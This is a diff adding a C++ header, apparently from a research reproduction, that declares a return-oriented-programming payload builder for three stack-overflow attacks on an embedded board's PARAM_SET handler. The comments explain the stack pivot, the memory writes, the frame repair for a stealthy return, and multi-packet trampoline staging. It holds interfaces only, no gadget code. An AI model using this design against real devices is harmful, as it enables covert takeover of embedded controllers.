@@ -1,0 +1,104 @@
+// ROP payload construction for the three attacks of paper §IV.
+//
+// Terminology used throughout (matching the paper's Fig. 6 walkthrough):
+//   P           — SP at h_param_set entry; the 3-byte return address the
+//                 CALL pushed sits at P+1..P+3 (big-endian), the saved
+//                 r29/r28 at P-1/P.
+//   buffer      — the vulnerable stack buffer, buffer[0] at Y+1 = P -
+//                 frame - 1.
+//   chain       — gadget frames executed after SP is pivoted into the
+//                 buffer by the stk_move gadget.
+//
+// The chain grammar (derived from the found gadgets' pop lists):
+//   [junk x |stk.pops|] [wm.pop_entry]
+//   { [wm chunk: Y_i, values_i] [wm.store_entry] } x N
+//   [wm chunk: Y_pivot] [stk.entry]
+// where each wm chunk is |wm.pops| bytes whose positions map to the pop
+// order, and the final stk_move lands SP back at P+3 with r28/r29 and the
+// return address repaired — the paper's "clean return".
+#pragma once
+
+#include <array>
+#include <cstdint>
+#include <vector>
+
+#include "attack/gadgets.hpp"
+#include "support/bytes.hpp"
+
+namespace mavr::attack {
+
+/// Everything the attacker learns about the vulnerable frame by analyzing
+/// and replaying the *stock* binary (threat model §IV-A: binary + symbols
+/// are public; the randomized binary is not).
+struct VictimFrame {
+  std::uint16_t p = 0;            ///< SP at handler entry
+  std::uint16_t frame_bytes = 0;  ///< frame size parsed from the prologue
+  std::uint16_t buffer_addr = 0;  ///< = p - frame_bytes - 1
+  std::uint16_t ram_end = 0x21FF; ///< top of SRAM (caller-stack headroom)
+  std::array<std::uint8_t, 32> regs_at_entry{};  ///< for faithful repair
+  std::array<std::uint8_t, 3> ret_bytes{};       ///< big-endian at P+1..P+3
+};
+
+/// One 3-byte memory write performed by a write_mem gadget round.
+struct Write3 {
+  std::uint16_t addr = 0;
+  std::array<std::uint8_t, 3> bytes{};
+};
+
+/// Splits an arbitrary byte string into (possibly overlapping) Write3 ops.
+std::vector<Write3> writes_for(std::uint16_t addr,
+                               const support::Bytes& bytes);
+
+/// Builds PARAM_SET payloads implementing ROP V1/V2/V3.
+class RopChainBuilder {
+ public:
+  RopChainBuilder(StkMoveGadget stk, WriteMemGadget wm, VictimFrame frame);
+
+  /// V1 — traditional ROP (paper §IV-C): performs `write` then runs off
+  /// into the smashed caller stack. The board ends up executing garbage.
+  support::Bytes v1_payload(const Write3& write) const;
+
+  /// V2 — stealthy ROP with clean return (paper §IV-D): performs `writes`,
+  /// repairs r28/r29/return address, resumes the victim. Throws when the
+  /// chain does not fit the buffer (use V3 for big payloads).
+  support::Bytes v2_payload(const std::vector<Write3>& writes) const;
+
+  /// Maximum number of attacker writes a single V2 packet can carry.
+  std::size_t v2_write_capacity() const;
+
+  /// V3 — trampoline attack (paper §IV-E): returns the whole packet
+  /// sequence. Leading packets are V2 chains that stage a large chain at
+  /// `staging_addr` 3 bytes at a time; the final packet pivots SP into the
+  /// staged chain, which performs all `writes`, repairs the frame and
+  /// returns cleanly. Payload size is bounded only by free SRAM.
+  std::vector<support::Bytes> v3_payloads(
+      std::uint16_t staging_addr, const std::vector<Write3>& writes) const;
+
+  /// The chain bytes V3 stages at `staging_addr` (exposed for tests).
+  support::Bytes staged_chain(std::uint16_t staging_addr,
+                              const std::vector<Write3>& writes) const;
+
+  const VictimFrame& frame() const { return frame_; }
+
+ private:
+  /// One wm chunk: pop values + 3-byte next-gadget address.
+  void append_round(support::Bytes& out, std::uint16_t y, std::uint8_t v0,
+                    std::uint8_t v1, std::uint8_t v2,
+                    std::uint32_t next_byte_addr) const;
+  /// The repair writes restoring pop values at P-S+1..P and the return
+  /// address at P+1..P+3.
+  std::vector<Write3> repair_writes() const;
+  /// Chain content implementing writes + repair + pivot-back, laid out to
+  /// run at `chain_addr` (buffer for V2, staging area for V3).
+  support::Bytes chain_bytes(const std::vector<Write3>& writes) const;
+  /// Wraps chain content into an overflow payload (fills the buffer,
+  /// overwrites saved Y and the return address with the initial pivot).
+  support::Bytes overflow_payload(const support::Bytes& chain,
+                                  std::uint16_t pivot_y) const;
+
+  StkMoveGadget stk_;
+  WriteMemGadget wm_;
+  VictimFrame frame_;
+};
+
+}  // namespace mavr::attack
